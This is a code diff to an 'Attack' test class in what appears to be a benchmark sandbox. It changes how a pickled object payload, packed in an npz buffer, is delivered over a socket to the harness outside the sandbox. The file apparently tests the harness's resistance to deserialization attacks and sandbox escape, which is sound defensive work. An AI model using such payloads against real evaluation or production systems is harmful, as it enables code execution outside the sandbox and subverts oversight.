@@ -6,7 +6,7 @@ import sys
 import numpy as np
 
 from benchmark.contract import RewardFunction, Tags
-from benchmark.sandbox.inside.payload import Message
+from benchmark.sandbox.inside.payload import Message, receive
 
 
 def find_socket():
@@ -32,7 +32,10 @@ class Attack:
     def fit(self, log, harness):
         buffer = io.BytesIO()
         np.savez(buffer, reward=np.array([Payload()], dtype=object))
-        find_socket().sendall(Message("done", {"status": "ok"}, buffer.getvalue()).encode())
+        channel = find_socket()
+        channel.sendall(Message("fitted").encode())
+        receive(channel, 1 << 24)  # the question for rewards
+        channel.sendall(Message("rewards", {}, buffer.getvalue()).encode())
         return RewardFunction(lambda prompts, texts: [len(text) for text in texts])
 
 
